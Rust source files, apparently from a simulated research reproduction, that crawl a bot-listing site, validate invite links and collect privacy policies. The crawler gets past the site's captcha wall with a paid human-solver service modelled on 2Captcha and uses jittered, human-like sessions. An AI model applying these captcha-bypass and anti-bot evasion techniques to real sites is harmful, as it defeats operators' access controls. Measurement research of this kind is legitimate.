            } else {
                None
            };
            listings.push(BotListing {
                id: app.client_id,
                name: format!("Bot{i}"),
                tags: vec!["fun".into()],
                description: format!("Bot number {i}"),
                invite_link,
                guild_count: 100 * i,
                vote_count: 1000 - i,
                website,
                github: None,
                developers: vec![format!("dev{}", i % 3)],
                commands: vec![format!("!cmd{i}")],
            });
        }
        BotListSite::new(
            listings,
            SiteConfig {
                page_size: 4,
                captcha_every: Some(10),
                rate_limit: None,
                email_wall_after_page: None,
                ..SiteConfig::open()
            },
        )
        .mount(&net);
        net
    }

    #[test]
    fn full_crawl_collects_everything() {
        let net = build_world(12);
        let (bots, stats) = crawl_listing(&net, &CrawlConfig::default());
        assert_eq!(bots.len(), 12);
        assert_eq!(stats.bots, 12);
        assert_eq!(stats.pages, 3);
        assert!(stats.duration > SimDuration::ZERO);

        let valid = bots.iter().filter(|b| b.invite_status.is_valid()).count();
        let removed = bots
            .iter()
            .filter(|b| b.invite_status == InviteStatus::Removed)
            .count();
        let malformed = bots
            .iter()
            .filter(|b| b.invite_status == InviteStatus::MalformedLink)
            .count();
        assert_eq!(valid, 6);
        assert_eq!(removed, 3);
        assert_eq!(malformed, 3);

        let with_site = bots.iter().filter(|b| b.website_reachable).count();
        assert_eq!(with_site, 6);
        // Sample commands survive both detail-page layouts.
        assert!(bots.iter().all(|b| b.scraped.commands.len() == 1));
        assert!(bots
            .iter()
            .any(|b| b.scraped.commands[0].starts_with("!cmd")));
        let with_policy = bots.iter().filter(|b| b.policy.is_some()).count();
        assert_eq!(with_policy, 3);
        // Permissions decoded for valid links.
        for b in bots.iter().filter(|b| b.invite_status.is_valid()) {
            let InviteStatus::Valid { permissions, .. } = &b.invite_status else {
                unreachable!()
            };
            assert!(permissions.contains(Permissions::ADMINISTRATOR));
        }
    }

    #[test]
    fn crawl_solves_captchas_on_the_way() {
        let net = build_world(12);
        let (_bots, stats) = crawl_listing(&net, &CrawlConfig::default());
        assert!(stats.captchas_solved >= 1, "captcha wall hit during crawl");
        assert!(stats.captcha_spend_dollars > 0.0);
    }

    #[test]
    fn max_pages_bounds_the_crawl() {
        let net = build_world(12);
        let (bots, stats) = crawl_listing(
            &net,
            &CrawlConfig {
                max_pages: Some(1),
                ..CrawlConfig::default()
            },
        );
        assert_eq!(stats.pages, 1);
        assert_eq!(bots.len(), 4);
    }

    #[test]
    fn crawl_without_policy_fetch_skips_websites() {
        let net = build_world(8);
        let (bots, _stats) = crawl_listing(
            &net,
            &CrawlConfig {
                fetch_policies: false,
                ..CrawlConfig::default()
            },
        );
        assert!(bots
            .iter()
            .all(|b| !b.website_reachable && b.policy.is_none()));
    }

    #[test]
    fn sharded_crawl_matches_serial() {
        let collect = |workers: usize| {
            let net = build_world(12);
            let (bots, stats) = crawl_listing(
                &net,
                &CrawlConfig {
                    workers,
                    ..CrawlConfig::default()
                },
            );
            let shape: Vec<_> = bots
                .iter()
                .map(|b| {
                    (
                        b.scraped.id,
                        b.scraped.name.clone(),
                        b.invite_status.clone(),
                        b.website_reachable,
                        b.policy_link_present,
                        b.policy.clone(),
                    )
                })
                .collect();
            (shape, stats.pages, stats.bots, stats.failures)
        };
        let serial = collect(1);
        for workers in [2, 4, 7] {
            assert_eq!(collect(workers), serial, "workers={workers}");
        }
    }

    #[test]
    fn traced_crawl_canonical_trace_is_sharding_invariant() {
        let trace = |workers: usize| {
            let net = build_world(12);
            let recorder = std::sync::Arc::new(obs::JsonRecorder::new());
            let obs_handle =
                Obs::with_recorder(recorder.clone(), std::sync::Arc::new(net.clock().clone()));
            {
                let root = obs_handle.span("audit");
                crawl_listing_traced(
                    &net,
                    &CrawlConfig {
                        workers,
                        ..CrawlConfig::default()
                    },
                    &obs_handle,
                    &root,
                );
            }
            recorder.canonical_trace()
        };
        let serial = trace(1);
        assert!(serial.contains("\"name\":\"crawl\""));
        assert!(serial.contains("\"name\":\"page\""));
        assert!(serial.contains("\"name\":\"detail\""));
        for workers in [2, 4] {
            assert_eq!(trace(workers), serial, "workers={workers}");
        }
    }

    #[test]
    fn deterministic_crawl() {
        let run = || {
            let net = build_world(8);
            let (bots, stats) = crawl_listing(&net, &CrawlConfig::default());
            (
                bots.iter()
                    .map(|b| (b.scraped.id, b.invite_status.clone(), b.policy.is_some()))
                    .collect::<Vec<_>>(),
                stats.pages,
            )
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn counters_mirror_into_the_platform_namespace() {
        for kind in platform::PlatformKind::ALL {
            let net = build_world(8);
            let obs_handle = Obs::disabled();
            let config = CrawlConfig {
                platform: kind,
                ..CrawlConfig::default()
            };
            crawl_listing_traced(&net, &config, &obs_handle, &Span::disabled());
            let scoped =
                |name: &str| obs_handle.counter_value(&format!("crawl.{}.{name}", kind.as_str()));
            for name in ["pages_fetched", "bots", "detail_failures"] {
                assert_eq!(
                    obs_handle.counter_value(&format!("crawl.{name}")),
                    scoped(name),
                    "crawl.{name} vs crawl.{}.{name}",
                    kind.as_str()
                );
            }
            assert_eq!(scoped("bots"), 8);
            // The other platform's namespace stays untouched.
            let other = platform::PlatformKind::ALL
                .iter()
                .find(|k| **k != kind)
                .unwrap();
            assert_eq!(
                obs_handle.counter_value(&format!("crawl.{}.bots", other.as_str())),
                0
            );
        }
    }
}
