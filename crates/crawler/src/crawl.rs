//! The end-to-end data-collection run.
//!
//! Traverses the "top chatbot" list page by page (the paper walked over 800
//! pages), fetches every bot's detail page, validates its invite link,
//! visits its website looking for a privacy policy, and returns the full
//! measurement input set.

use crate::extract::{extract_bot_detail, extract_bot_links, extract_privacy_policy, extract_total_pages, ScrapedBot};
use crate::invite::{validate_invite, InviteStatus};
use crate::session::ScrapeSession;
use botlist::LIST_HOST;
use htmlsim::Locator;
use netsim::clock::SimDuration;
use netsim::http::Url;
use netsim::Network;
use policy::PrivacyPolicy;

/// Crawl parameters.
#[derive(Debug, Clone)]
pub struct CrawlConfig {
    /// Stop after this many list pages (None = all advertised pages).
    pub max_pages: Option<usize>,
    /// Whether to validate invite links (network-heavy).
    pub validate_invites: bool,
    /// Whether to visit websites and fetch privacy policies.
    pub fetch_policies: bool,
    /// Seed for the session's human-behaviour jitter.
    pub seed: u64,
    /// Use the polite session (rate-limited, jittered). The ablation sets
    /// this false.
    pub polite: bool,
}

impl Default for CrawlConfig {
    fn default() -> Self {
        CrawlConfig { max_pages: None, validate_invites: true, fetch_policies: true, seed: 7, polite: true }
    }
}

/// One fully-crawled bot.
#[derive(Debug, Clone)]
pub struct CrawledBot {
    /// Attributes scraped from the detail page.
    pub scraped: ScrapedBot,
    /// Invite-link validation outcome.
    pub invite_status: InviteStatus,
    /// Whether the listed website answered at all.
    pub website_reachable: bool,
    /// Whether the website shows a privacy-policy link.
    pub policy_link_present: bool,
    /// The fetched policy document, when the link worked.
    pub policy: Option<PrivacyPolicy>,
}

/// Aggregate statistics for a crawl.
#[derive(Debug, Clone, Default)]
pub struct CrawlStats {
    /// List pages traversed.
    pub pages: usize,
    /// Bot detail pages successfully extracted.
    pub bots: usize,
    /// Detail pages that failed (dead listing entries).
    pub failures: usize,
    /// Captchas solved.
    pub captchas_solved: u64,
    /// 2Captcha spend in dollars.
    pub captcha_spend_dollars: f64,
    /// Email verifications performed.
    pub email_verifications: u64,
    /// Virtual wall-clock the crawl took.
    pub duration: SimDuration,
}

/// Run the data-collection stage against the mounted listing site.
pub fn crawl_listing(net: &Network, config: &CrawlConfig) -> (Vec<CrawledBot>, CrawlStats) {
    let clock = net.clock();
    let started = clock.now();
    let mut session = if config.polite {
        ScrapeSession::new(net.clone(), config.seed)
    } else {
        ScrapeSession::impolite(net.clone(), config.seed)
    };

    let mut bots = Vec::new();
    let mut stats = CrawlStats::default();

    // Discover page count from page 0.
    let first = match session.fetch_document(Url::https(LIST_HOST, "/list").with_query("page", "0")) {
        Ok(doc) => doc,
        Err(_) => {
            stats.duration = clock.now().duration_since(started);
            return (bots, stats);
        }
    };
    let total_pages = extract_total_pages(&first).unwrap_or(1);
    let limit = config.max_pages.map_or(total_pages, |m| m.min(total_pages));

    let mut hrefs: Vec<String> = Vec::new();
    for page in 0..limit {
        let doc = if page == 0 {
            first.clone()
        } else {
            match session
                .fetch_document(Url::https(LIST_HOST, "/list").with_query("page", &page.to_string()))
            {
                Ok(doc) => doc,
                Err(_) => continue,
            }
        };
        stats.pages += 1;
        match extract_bot_links(&doc) {
            Ok(links) if links.is_empty() => break, // past the end
            Ok(links) => hrefs.extend(links),
            Err(_) => continue,
        }
    }

    for href in hrefs {
        let url = if href.starts_with('/') {
            Url::https(LIST_HOST, &href)
        } else {
            match Url::parse(&href) {
                Ok(u) => u,
                Err(_) => {
                    stats.failures += 1;
                    continue;
                }
            }
        };
        let doc = match session.fetch_document(url) {
            Ok(doc) => doc,
            Err(_) => {
                stats.failures += 1;
                continue;
            }
        };
        let scraped = match extract_bot_detail(&doc) {
            Ok(s) => s,
            Err(_) => {
                stats.failures += 1;
                continue;
            }
        };

        let invite_status = if config.validate_invites {
            validate_invite(session.http(), &scraped.invite_link)
        } else {
            InviteStatus::MalformedLink
        };

        let (website_reachable, policy_link_present, policy) = if config.fetch_policies {
            fetch_policy(&mut session, scraped.website.as_deref())
        } else {
            (false, false, None)
        };

        stats.bots += 1;
        bots.push(CrawledBot { scraped, invite_status, website_reachable, policy_link_present, policy });
    }

    stats.captchas_solved = session.captchas_solved;
    stats.captcha_spend_dollars = session.captcha_spend_dollars();
    stats.email_verifications = session.email_verifications;
    stats.duration = clock.now().duration_since(started);
    (bots, stats)
}

/// Visit a bot's website and hunt for its privacy policy.
fn fetch_policy(
    session: &mut ScrapeSession,
    website: Option<&str>,
) -> (bool, bool, Option<PrivacyPolicy>) {
    let Some(site) = website else { return (false, false, None) };
    let Ok(home_url) = Url::parse(site) else { return (false, false, None) };
    let Ok(resp) = session.http().get(home_url.clone()) else { return (false, false, None) };
    if !resp.status.is_success() {
        return (false, false, None);
    }
    let Ok(doc) = htmlsim::parse_document(&resp.text()) else { return (true, false, None) };
    let Ok(link) = Locator::id("privacy-link").find(&doc) else { return (true, false, None) };
    let Some(href) = link.attr("href") else { return (true, false, None) };
    let Ok(policy_url) = home_url.join(href) else { return (true, true, None) };
    let Ok(presp) = session.http().get(policy_url) else { return (true, true, None) };
    if !presp.status.is_success() {
        return (true, true, None);
    }
    let Ok(pdoc) = htmlsim::parse_document(&presp.text()) else { return (true, true, None) };
    (true, true, extract_privacy_policy(&pdoc))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::solver::CaptchaSolverService;
    use botlist::website::{BotWebsite, PolicyHosting};
    use botlist::{BotListSite, BotListing, SiteConfig};
    use discord_sim::oauth::InviteUrl;
    use discord_sim::platform::Platform;
    use discord_sim::webgate::OAuthWebGate;
    use discord_sim::{GuildVisibility, Permissions};
    use netsim::clock::VirtualClock;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// A small end-to-end world: platform + webgate + listing site +
    /// websites + solver.
    fn build_world(n_bots: u64) -> Network {
        let clock = VirtualClock::new();
        let net = Network::with_clock(77, clock.clone());
        let platform = Platform::new(clock);
        CaptchaSolverService::mount(&net);
        OAuthWebGate::new(platform.clone()).mount(&net);

        let owner = platform.register_user("dev", "d@x.y");
        platform.create_guild(owner, "seed", GuildVisibility::Public).unwrap();

        let mut rng = StdRng::seed_from_u64(4);
        let mut listings = Vec::new();
        for i in 0..n_bots {
            let app = platform.register_bot_application(owner, &format!("Bot{i}")).unwrap();
            // Mix of valid / removed / malformed invite links.
            let invite_link = match i % 4 {
                0 | 1 => InviteUrl::bot(app.client_id, Permissions::ADMINISTRATOR).to_url().to_string(),
                2 => InviteUrl::bot(999_000 + i, Permissions::NONE).to_url().to_string(), // removed
                _ => "totally-broken".to_string(),
            };
            // Half the bots have websites; half of those have policies.
            let website = if i % 2 == 0 {
                let host = format!("bot{i}.site.sim");
                let hosting = if i % 4 == 0 {
                    PolicyHosting::Linked(policy::corpus::complete_policy(&mut rng, &format!("Bot{i}"), true))
                } else {
                    PolicyHosting::None
                };
                BotWebsite::new(&format!("Bot{i}"), hosting).mount(&net, &host);
                Some(format!("https://{host}/"))
            } else {
                None
            };
            listings.push(BotListing {
                id: app.client_id,
                name: format!("Bot{i}"),
                tags: vec!["fun".into()],
                description: format!("Bot number {i}"),
                invite_link,
                guild_count: 100 * i,
                vote_count: 1000 - i,
                website,
                github: None,
                developers: vec![format!("dev{}", i % 3)],
                commands: vec![format!("!cmd{i}")],
            });
        }
        BotListSite::new(listings, SiteConfig { page_size: 4, captcha_every: Some(10), rate_limit: None, email_wall_after_page: None })
            .mount(&net);
        net
    }

    #[test]
    fn full_crawl_collects_everything() {
        let net = build_world(12);
        let (bots, stats) = crawl_listing(&net, &CrawlConfig::default());
        assert_eq!(bots.len(), 12);
        assert_eq!(stats.bots, 12);
        assert_eq!(stats.pages, 3);
        assert!(stats.duration > SimDuration::ZERO);

        let valid = bots.iter().filter(|b| b.invite_status.is_valid()).count();
        let removed = bots.iter().filter(|b| b.invite_status == InviteStatus::Removed).count();
        let malformed = bots.iter().filter(|b| b.invite_status == InviteStatus::MalformedLink).count();
        assert_eq!(valid, 6);
        assert_eq!(removed, 3);
        assert_eq!(malformed, 3);

        let with_site = bots.iter().filter(|b| b.website_reachable).count();
        assert_eq!(with_site, 6);
        // Sample commands survive both detail-page layouts.
        assert!(bots.iter().all(|b| b.scraped.commands.len() == 1));
        assert!(bots.iter().any(|b| b.scraped.commands[0].starts_with("!cmd")));
        let with_policy = bots.iter().filter(|b| b.policy.is_some()).count();
        assert_eq!(with_policy, 3);
        // Permissions decoded for valid links.
        for b in bots.iter().filter(|b| b.invite_status.is_valid()) {
            let InviteStatus::Valid { permissions, .. } = &b.invite_status else { unreachable!() };
            assert!(permissions.contains(Permissions::ADMINISTRATOR));
        }
    }

    #[test]
    fn crawl_solves_captchas_on_the_way() {
        let net = build_world(12);
        let (_bots, stats) = crawl_listing(&net, &CrawlConfig::default());
        assert!(stats.captchas_solved >= 1, "captcha wall hit during crawl");
        assert!(stats.captcha_spend_dollars > 0.0);
    }

    #[test]
    fn max_pages_bounds_the_crawl() {
        let net = build_world(12);
        let (bots, stats) =
            crawl_listing(&net, &CrawlConfig { max_pages: Some(1), ..CrawlConfig::default() });
        assert_eq!(stats.pages, 1);
        assert_eq!(bots.len(), 4);
    }

    #[test]
    fn crawl_without_policy_fetch_skips_websites() {
        let net = build_world(8);
        let (bots, _stats) =
            crawl_listing(&net, &CrawlConfig { fetch_policies: false, ..CrawlConfig::default() });
        assert!(bots.iter().all(|b| !b.website_reachable && b.policy.is_none()));
    }

    #[test]
    fn deterministic_crawl() {
        let run = || {
            let net = build_world(8);
            let (bots, stats) = crawl_listing(&net, &CrawlConfig::default());
            (
                bots.iter().map(|b| (b.scraped.id, b.invite_status.clone(), b.policy.is_some())).collect::<Vec<_>>(),
                stats.pages,
            )
        };
        assert_eq!(run(), run());
    }
}
