//! The captcha-solving service ("2Captcha").
//!
//! §3: "We use '2Captcha', a Captcha solving service, to overcome the
//! captchas restriction"; §4.2 chose it for "its affordability and quick
//! solving time". The service is a human-worker farm behind an API: you
//! POST the challenge, pay a fee, and the answer comes back after a
//! solve-time delay.

use botlist::captcha::CaptchaBank;
use netsim::client::{ClientConfig, HttpClient};
use netsim::clock::SimDuration;
use netsim::http::{Request, Response, Status, Url};
use netsim::{NetError, Network, Service, ServiceCtx};

/// Host the solver is mounted at.
pub const SOLVER_HOST: &str = "2captcha.sim";

/// Price per solve, in hundredths of a cent (2Captcha charges ~$3 per 1000
/// reCAPTCHAs → 0.3¢ each).
pub const FEE_PER_SOLVE_CENTICENTS: u64 = 30;

/// Simulated human solve time.
pub const SOLVE_TIME: SimDuration = SimDuration::from_secs(12);

/// The worker-farm service.
#[derive(Default, Clone)]
pub struct CaptchaSolverService;

impl Service for CaptchaSolverService {
    fn handle(&mut self, req: &Request, _ctx: &mut ServiceCtx<'_>) -> Response {
        if req.url.path != "/solve" {
            return Response::status(Status::NotFound);
        }
        let question = String::from_utf8_lossy(&req.body).to_string();
        match CaptchaBank::solve_question(&question) {
            Some(answer) => Response::ok(answer.to_string())
                .with_header("x-fee-centicents", &FEE_PER_SOLVE_CENTICENTS.to_string())
                .with_header("x-solve-ms", &SOLVE_TIME.as_millis().to_string()),
            None => Response::status(Status::BadRequest),
        }
    }
}

impl CaptchaSolverService {
    /// Mount at [`SOLVER_HOST`].
    pub fn mount(net: &Network) {
        net.mount(SOLVER_HOST, CaptchaSolverService);
    }
}

/// Client-side handle: submits challenges, waits out the solve time,
/// tracks spend.
pub struct CaptchaSolverClient {
    http: HttpClient,
    net: Network,
    /// Challenges solved so far.
    pub solves: u64,
    /// Total spend in centicents.
    pub spend_centicents: u64,
}

impl CaptchaSolverClient {
    /// A solver client on the given network.
    pub fn new(net: Network) -> CaptchaSolverClient {
        let http = HttpClient::new(
            net.clone(),
            ClientConfig {
                user_agent: "captcha-solver-client".into(),
                ..ClientConfig::default()
            },
        );
        CaptchaSolverClient {
            http,
            net,
            solves: 0,
            spend_centicents: 0,
        }
    }

    /// Solve one question (blocking in virtual time for the human worker).
    pub fn solve(&mut self, question: &str) -> Result<i64, NetError> {
        let resp = self.http.post(
            Url::https(SOLVER_HOST, "/solve"),
            question.as_bytes().to_vec(),
        )?;
        if resp.status != Status::Ok {
            return Err(NetError::Malformed {
                reason: format!("solver rejected question {question:?}"),
            });
        }
        // The human takes their time.
        let solve_ms = resp
            .header("x-solve-ms")
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap_or(SOLVE_TIME.as_millis());
        self.net.clock().sleep(SimDuration::from_millis(solve_ms));
        let fee = resp
            .header("x-fee-centicents")
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap_or(FEE_PER_SOLVE_CENTICENTS);
        self.solves += 1;
        self.spend_centicents += fee;
        resp.text().parse::<i64>().map_err(|_| NetError::Malformed {
            reason: "solver returned a non-number".into(),
        })
    }

    /// Spend in dollars.
    pub fn spend_dollars(&self) -> f64 {
        self.spend_centicents as f64 / 10_000.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn solves_and_charges() {
        let net = Network::new(9);
        CaptchaSolverService::mount(&net);
        let mut solver = CaptchaSolverClient::new(net.clone());
        let before = net.clock().now();
        let answer = solver.solve("17 + 25").unwrap();
        assert_eq!(answer, 42);
        assert_eq!(solver.solves, 1);
        assert_eq!(solver.spend_centicents, FEE_PER_SOLVE_CENTICENTS);
        assert!(
            net.clock().now().duration_since(before) >= SOLVE_TIME,
            "human solve time elapsed"
        );
    }

    #[test]
    fn rejects_unsolvable() {
        let net = Network::new(9);
        CaptchaSolverService::mount(&net);
        let mut solver = CaptchaSolverClient::new(net);
        assert!(solver.solve("what is love").is_err());
        assert_eq!(solver.solves, 0);
    }

    #[test]
    fn spend_accumulates() {
        let net = Network::new(9);
        CaptchaSolverService::mount(&net);
        let mut solver = CaptchaSolverClient::new(net);
        for _ in 0..10 {
            solver.solve("1 + 1").unwrap();
        }
        assert_eq!(solver.solves, 10);
        assert!((solver.spend_dollars() - 0.03).abs() < 1e-9);
    }
}
