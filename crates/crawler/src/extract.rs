//! Locator-based page extraction, robust to structure variants.
//!
//! The listing site serves three different page layouts; the extractor
//! tries each known locator in turn and reacts to `NoSuchElement` exactly
//! the way the paper's Selenium scraper does — by falling back rather than
//! crashing.

use htmlsim::{Document, LocateError, Locator};
use serde::{Deserialize, Serialize};

/// Everything extractable from one bot detail page.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScrapedBot {
    /// Client/application ID.
    pub id: u64,
    /// Display name.
    pub name: String,
    /// Raw invite link (unvalidated).
    pub invite_link: String,
    /// Tags.
    pub tags: Vec<String>,
    /// Description.
    pub description: String,
    /// Guild count badge.
    pub guild_count: u64,
    /// Vote count.
    pub vote_count: u64,
    /// Website link, if present.
    pub website: Option<String>,
    /// GitHub link, if present.
    pub github: Option<String>,
    /// Developer handles.
    pub developers: Vec<String>,
    /// Sample commands advertised on the page.
    pub commands: Vec<String>,
}

/// Extract `/bot/{id}` links from a list page, across all three layout
/// variants. Returns the hrefs in page order.
pub fn extract_bot_links(doc: &Document) -> Result<Vec<String>, LocateError> {
    // Variant locators, tried in order (NoSuchElement → next variant).
    let variants = [
        Locator::css("div.bot-card a.bot-link"),
        Locator::css("tr.bot-row a.details"),
        Locator::css("li.entry a[data-kind=bot]"),
    ];
    for locator in variants {
        let hits = locator.find_all(doc)?;
        if !hits.is_empty() {
            return Ok(hits
                .into_iter()
                .filter_map(|n| n.attr("href").map(str::to_string))
                .collect());
        }
    }
    // A page with no recognizable cards at all: the caller treats an empty
    // list as "past the last page".
    Ok(Vec::new())
}

/// Total page count advertised on a list page.
pub fn extract_total_pages(doc: &Document) -> Option<usize> {
    Locator::id("total-pages")
        .find(doc)
        .ok()?
        .text_content()
        .parse()
        .ok()
}

/// Extract a bot detail page, trying the primary layout first and falling
/// back to the alternate "app-profile" layout on `NoSuchElement`.
pub fn extract_bot_detail(doc: &Document) -> Result<ScrapedBot, LocateError> {
    match extract_bot_detail_primary(doc) {
        Ok(bot) => Ok(bot),
        Err(LocateError::NoSuchElement { .. }) => extract_bot_detail_alt(doc),
        Err(other) => Err(other),
    }
}

fn extract_bot_detail_primary(doc: &Document) -> Result<ScrapedBot, LocateError> {
    let bot = Locator::id("bot").find(doc)?;
    let id = bot
        .attr("data-bot-id")
        .and_then(|v| v.parse::<u64>().ok())
        .ok_or_else(|| LocateError::NoSuchElement {
            locator: "data-bot-id".into(),
        })?;
    let name = Locator::id("bot-name").find(doc)?.text_content();
    let invite_link = Locator::id("invite")
        .find(doc)?
        .attr("href")
        .unwrap_or_default()
        .to_string();
    let description = Locator::id("description")
        .find(doc)
        .map(|n| n.text_content())
        .unwrap_or_default();
    let guild_count = Locator::id("guild-count")
        .find(doc)
        .ok()
        .and_then(|n| n.text_content().parse().ok())
        .unwrap_or(0);
    let vote_count = Locator::id("vote-count")
        .find(doc)
        .ok()
        .and_then(|n| n.text_content().parse().ok())
        .unwrap_or(0);
    let tags = Locator::class("tag")
        .find_all(doc)?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    let developers = Locator::class("dev")
        .find_all(doc)?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    let commands = Locator::class("command")
        .find_all(doc)?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    // Optional links: absence is normal, not an error.
    let website = Locator::class("website")
        .find(doc)
        .ok()
        .and_then(|n| n.attr("href").map(str::to_string));
    let github = Locator::class("github")
        .find(doc)
        .ok()
        .and_then(|n| n.attr("href").map(str::to_string));
    Ok(ScrapedBot {
        id,
        name,
        invite_link,
        tags,
        description,
        guild_count,
        vote_count,
        website,
        github,
        developers,
        commands,
    })
}

/// Extractor for the alternate "app-profile" detail layout.
fn extract_bot_detail_alt(doc: &Document) -> Result<ScrapedBot, LocateError> {
    let card = Locator::css("section.app-profile").find(doc)?;
    let id = card
        .attr("data-app-id")
        .and_then(|v| v.parse::<u64>().ok())
        .ok_or_else(|| LocateError::NoSuchElement {
            locator: "data-app-id".into(),
        })?;
    let name = Locator::css("h2.app-title").find(doc)?.text_content();
    let invite_link = Locator::css("a.install-button")
        .find(doc)?
        .attr("href")
        .unwrap_or_default()
        .to_string();
    let description = Locator::css("div.about")
        .find(doc)
        .map(|n| n.text_content())
        .unwrap_or_default();
    let guild_count = card
        .attr("data-guilds")
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let vote_count = card
        .attr("data-votes")
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let tags = Locator::css("span.badge")
        .find_all(doc)?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    let developers = Locator::css("span.maker")
        .find_all(doc)?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    let commands = Locator::css("code.cmd")
        .find_all(doc)?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    let website = Locator::css("a[rel=website]")
        .find(doc)
        .ok()
        .and_then(|n| n.attr("href").map(str::to_string));
    let github = Locator::css("a[rel=source]")
        .find(doc)
        .ok()
        .and_then(|n| n.attr("href").map(str::to_string));
    Ok(ScrapedBot {
        id,
        name,
        invite_link,
        tags,
        description,
        guild_count,
        vote_count,
        website,
        github,
        developers,
        commands,
    })
}

/// Extract a privacy-policy page served by a bot website into a
/// [`policy::PrivacyPolicy`]. The `tailored` flag is ground truth the
/// scraper cannot know; it is recorded as `false` (the analyzer never
/// reads it).
pub fn extract_privacy_policy(doc: &Document) -> Option<policy::PrivacyPolicy> {
    let sections: Vec<String> = Locator::class("policy-text")
        .find_all(doc)
        .ok()?
        .into_iter()
        .map(|n| n.text_content())
        .collect();
    if sections.is_empty() {
        return None;
    }
    let title = doc.title().unwrap_or_else(|| "Privacy Policy".into());
    Some(policy::PrivacyPolicy::new(&title, sections, false))
}

#[cfg(test)]
mod tests {
    use super::*;
    use htmlsim::build::el;
    use htmlsim::parse_document;

    #[test]
    fn extracts_links_from_all_variants() {
        let variant0 = r#"<div id="bot-list"><div class="bot-card"><a class="bot-link" href="/bot/1">A</a></div></div>"#;
        let variant1 = r#"<table id="bot-table"><tbody><tr class="bot-row"><td><a class="details" href="/bot/2">B</a></td></tr></tbody></table>"#;
        let variant2 = r#"<ul id="entries"><li class="entry"><a data-kind="bot" href="/bot/3">C</a></li></ul>"#;
        for (html, expected) in [
            (variant0, "/bot/1"),
            (variant1, "/bot/2"),
            (variant2, "/bot/3"),
        ] {
            let doc = parse_document(html).unwrap();
            assert_eq!(extract_bot_links(&doc).unwrap(), vec![expected.to_string()]);
        }
    }

    #[test]
    fn empty_page_yields_no_links() {
        let doc = parse_document("<html><body><p>nothing here</p></body></html>").unwrap();
        assert!(extract_bot_links(&doc).unwrap().is_empty());
    }

    #[test]
    fn detail_extraction_full() {
        let doc = Document::new(
            el("html").child(el("body").child(
                el("div").id("bot").attr("data-bot-id", "77")
                    .child(el("h1").id("bot-name").text("MegaBot"))
                    .child(el("a").id("invite").attr("href", "https://discord.sim/oauth2/authorize?client_id=77&scope=bot&permissions=8"))
                    .child(el("span").id("guild-count").text("250000"))
                    .child(el("span").id("vote-count").text("876000"))
                    .child(el("p").id("description").text("Does everything"))
                    .child(el("ul").id("tags").child(el("li").class("tag").text("fun")).child(el("li").class("tag").text("music")))
                    .child(el("ul").id("devs").child(el("li").class("dev").text("editid#6714")))
                    .child(el("a").class("website").attr("href", "https://megabot.site/"))
                    .child(el("a").class("github").attr("href", "https://github.sim/editid/megabot")),
            )).build(),
        );
        let bot = extract_bot_detail(&doc).unwrap();
        assert_eq!(bot.id, 77);
        assert_eq!(bot.name, "MegaBot");
        assert_eq!(bot.guild_count, 250_000);
        assert_eq!(bot.tags, vec!["fun", "music"]);
        assert_eq!(bot.developers, vec!["editid#6714"]);
        assert_eq!(bot.website.as_deref(), Some("https://megabot.site/"));
        assert_eq!(
            bot.github.as_deref(),
            Some("https://github.sim/editid/megabot")
        );
    }

    #[test]
    fn detail_extraction_minimal_page() {
        let doc = Document::new(
            el("html")
                .child(
                    el("body").child(
                        el("div")
                            .id("bot")
                            .attr("data-bot-id", "5")
                            .child(el("h1").id("bot-name").text("TinyBot"))
                            .child(el("a").id("invite").attr("href", "nonsense-link")),
                    ),
                )
                .build(),
        );
        let bot = extract_bot_detail(&doc).unwrap();
        assert_eq!(bot.id, 5);
        assert_eq!(bot.invite_link, "nonsense-link");
        assert!(bot.website.is_none());
        assert!(bot.tags.is_empty());
    }

    #[test]
    fn detail_extraction_fails_without_bot_div() {
        let doc = parse_document("<html><body><h1>404</h1></body></html>").unwrap();
        assert!(matches!(
            extract_bot_detail(&doc),
            Err(LocateError::NoSuchElement { .. })
        ));
    }

    #[test]
    fn alt_layout_extraction() {
        let doc = Document::new(
            el("html").child(el("body").child(
                el("section").class("app-profile")
                    .attr("data-app-id", "88")
                    .attr("data-guilds", "1234")
                    .attr("data-votes", "999")
                    .child(el("h2").class("app-title").text("AltBot"))
                    .child(el("div").class("actions").child(
                        el("a").class("install-button").attr("href", "https://discord.sim/oauth2/authorize?client_id=88&scope=bot&permissions=8"),
                    ))
                    .child(el("div").class("about").text("Alternate layout bot"))
                    .child(el("div").class("badges").child(el("span").class("badge").text("music")))
                    .child(el("div").class("made-by").child(el("span").class("maker").text("dev-x")))
                    .child(el("nav").class("external-links")
                        .child(el("a").attr("rel", "website").attr("href", "https://altbot.site/"))
                        .child(el("a").attr("rel", "source").attr("href", "https://github.sim/x/altbot"))),
            )).build(),
        );
        let bot = extract_bot_detail(&doc).unwrap();
        assert_eq!(bot.id, 88);
        assert_eq!(bot.name, "AltBot");
        assert_eq!(bot.guild_count, 1234);
        assert_eq!(bot.vote_count, 999);
        assert_eq!(bot.tags, vec!["music"]);
        assert_eq!(bot.developers, vec!["dev-x"]);
        assert_eq!(bot.website.as_deref(), Some("https://altbot.site/"));
        assert_eq!(bot.github.as_deref(), Some("https://github.sim/x/altbot"));
        assert!(bot.invite_link.contains("client_id=88"));
    }

    #[test]
    fn alt_layout_without_links() {
        let doc = Document::new(
            el("html")
                .child(
                    el("body").child(
                        el("section")
                            .class("app-profile")
                            .attr("data-app-id", "5")
                            .child(el("h2").class("app-title").text("Tiny"))
                            .child(
                                el("div")
                                    .class("actions")
                                    .child(el("a").class("install-button").attr("href", "x")),
                            ),
                    ),
                )
                .build(),
        );
        let bot = extract_bot_detail(&doc).unwrap();
        assert_eq!(bot.id, 5);
        assert!(bot.website.is_none());
        assert!(bot.github.is_none());
        assert_eq!(bot.guild_count, 0);
    }

    #[test]
    fn total_pages_parses() {
        let doc = parse_document(r#"<html><body><span id="total-pages">837</span></body></html>"#)
            .unwrap();
